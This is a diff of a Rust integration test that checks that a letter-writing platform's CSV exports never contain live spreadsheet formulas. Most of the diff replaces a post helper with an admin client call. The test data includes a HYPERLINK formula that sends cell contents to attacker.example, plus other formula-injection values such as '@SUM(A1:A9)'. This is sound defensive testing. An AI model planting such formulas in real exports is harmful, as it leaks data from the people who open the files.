@@ -17,16 +17,6 @@ use uuid::Uuid;
 
 const EVIL: &str = "=HYPERLINK(\"http://attacker.example/?\"&A2&B2,\"Click\")";
 
-async fn post(app: &TestApp, token: &str, path: &str, body: Value) -> reqwest::Response {
-    app.http
-        .post(app.url(path))
-        .bearer_auth(token)
-        .json(&body)
-        .send()
-        .await
-        .unwrap()
-}
-
 async fn get(app: &TestApp, token: &str, path: &str) -> Vec<u8> {
     let r = app
         .http
@@ -67,15 +57,15 @@ async fn no_csv_cell_the_system_writes_is_a_live_formula() {
         ("position", "+7 701 000 0000"),
         ("organisation", "@SUM(A1:A9)"),
     ];
-    let r = post(
-        &app,
-        &admin,
-        "/api/v1/admin/officials",
-        json!({ "name": official[0].1, "position": official[1].1, "organisation": official[2].1,
+    let r = app
+        .admin(&admin)
+        .post(
+            "/api/v1/admin/officials",
+            json!({ "name": official[0].1, "position": official[1].1, "organisation": official[2].1,
                 "email": "formula@gov.example.kz", "language": "ru", "time_zone": "Asia/Almaty",
                 "office_hours": "Mon-Fri 09:00-18:00", "daily_cap": null }),
-    )
-    .await;
+        )
+        .await;
     assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
     let official_id: Uuid = r.json::<Value>().await.unwrap()["id"]
         .as_str()
@@ -101,10 +91,7 @@ async fn no_csv_cell_the_system_writes_is_a_live_formula() {
     );
 
     // A public signer with a formula for a name, in the letter's report.
-    let r = post(
-        &app,
-        &admin,
-        "/api/v1/admin/letters",
+    let r = app.admin(&admin).post("/api/v1/admin/letters",
         json!({ "name": "Formula letter", "slug": "formula", "mode": "each",
                 "templates": { "ru": { "subject": "S", "body": "B {{ signer.name }}", "page_text": "P" } },
                 "targets": [official_id], "reply_to": "office@forum.example.kz",
@@ -117,13 +104,13 @@ async fn no_csv_cell_the_system_writes_is_a_live_formula() {
         .unwrap()
         .parse()
         .unwrap();
-    let r = post(
-        &app,
-        &admin,
-        &format!("/api/v1/admin/letters/{letter}/approve"),
-        json!({}),
-    )
-    .await;
+    let r = app
+        .admin(&admin)
+        .post(
+            &format!("/api/v1/admin/letters/{letter}/approve"),
+            json!({}),
+        )
+        .await;
     assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
     let keys = Keyring::from_config(&app.config.crypto).unwrap();
     let id = Uuid::now_v7();
